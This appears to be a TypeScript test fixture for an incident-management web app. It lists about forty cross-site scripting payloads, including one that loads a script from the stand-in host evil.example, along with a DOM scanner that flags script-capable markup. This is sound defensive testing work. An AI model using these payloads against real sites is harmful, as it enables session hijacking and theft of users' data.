/**
 * Cross-site scripting payloads an analyst (or an attacker's alert data) could put into an
 * incident's name, tags or comments. Each one, if it ran, would set `window.__xss`. All fit the
 * tag limit (100 characters) and differ case-insensitively, so one incident can carry them all.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script elements, plain and disguised.
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__xss=2</scr</script>ipt>',
  '<svg><script>window.__xss=3</script></svg>',
  '"><script>window.__xss=4</script>',
  // Event handlers in attributes.
  '<img src=x onerror="window.__xss=5">',
  "'><img src=x onerror=window.__xss=6>",
  '<img src="x" onerror="&#119;indow.__xss=7">',
  '<svg onload="window.__xss=8">',
  '<body onload="window.__xss=9">',
  '<input autofocus onfocus="window.__xss=10">',
  '<details open ontoggle="window.__xss=11">',
  '<marquee onstart="window.__xss=12">x</marquee>',
  '<div onmouseover="window.__xss=13">hover me</div>',
  // javascript:, data: and vbscript: URLs in raw HTML.
  '<a href="javascript:window.__xss=14">click</a>',
  '<a href="  javascript:window.__xss=15">spaced</a>',
  '<a href="jav&#x09;ascript:window.__xss=16">tab</a>',
  '<iframe src="javascript:window.__xss=17"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=18</script>"></iframe>',
  '<object data="javascript:window.__xss=19"></object>',
  '<embed src="javascript:window.__xss=20">',
  '<form action="javascript:window.__xss=21"><button>go</button></form>',
  '<base href="javascript:window.__xss=22//">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=23">',
  // Styles.
  '<div style="background:url(javascript:window.__xss=24)">bg</div>',
  '<div style="width:expression(window.__xss=25)">ie</div>',
  "<style>@import 'javascript:window.__xss=26';</style>",
  // Parser differentials (mutation XSS).
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=27>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=28>">',
  // Markdown links and images with dangerous targets.
  '[click](javascript:window.__xss=29)',
  '[click](JaVaScRiPt:window.__xss=30)',
  '[click](javascript&#58;window.__xss=31)',
  '[click](&#106;avascript:window.__xss=32)',
  '[angle](<javascript:window.__xss=33>)',
  '![pic](javascript:window.__xss=34)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(35))',
  '[t](https://ok.example "x\\" onmouseover=\\"window.__xss=36")',
  '![i](https://ok.example/a.png"onerror="window.__xss=37)',
  // Encoded variants and template injection.
  '&lt;script&gt;window.__xss=38&lt;/script&gt;',
  '%3Cscript%3Ewindow.__xss=39%3C/script%3E',
  "{{constructor.constructor('window.__xss=40')()}}",
];

/** Payloads whose text has no markdown in it: a comment must show them exactly as typed. */
export const LITERAL_PAYLOADS = XSS_PAYLOADS.filter((p) => p.startsWith('<') && !p.includes('&'));

declare global {
  interface Window {
    __xss?: unknown;
  }
}

const FORBIDDEN_ELEMENTS =
  'script, iframe, frame, frameset, object, embed, base, meta, link, noscript, marquee, details, math, form[action], input[autofocus]';
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'];

/**
 * What in `root` could run code: forbidden elements, event-handler attributes, script URLs and
 * scripted styles. Empty when the DOM is inert.
 */
export function dangerousMarkup(root: ParentNode): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll(FORBIDDEN_ELEMENTS)) found.push(`<${el.localName}>`);
  for (const el of root.querySelectorAll('*')) {
    if (el.closest('head')) continue;
    for (const attr of el.attributes) {
      // Browsers ignore whitespace and control characters inside a URL's scheme.
      const value = [...attr.value].filter((c) => c.charCodeAt(0) > 0x20).join('');
      if (attr.name.startsWith('on')) found.push(`${el.localName}[${attr.name}]`);
      if (URL_ATTRIBUTES.includes(attr.name) && /^(javascript|data|vbscript):/i.test(value)) {
        found.push(`${el.localName}[${attr.name}=${attr.value}]`);
      }
      if (attr.name === 'style' && /expression\(|javascript:/i.test(value)) {
        found.push(`${el.localName}[style=${attr.value}]`);
      }
    }
  }
  return found;
}
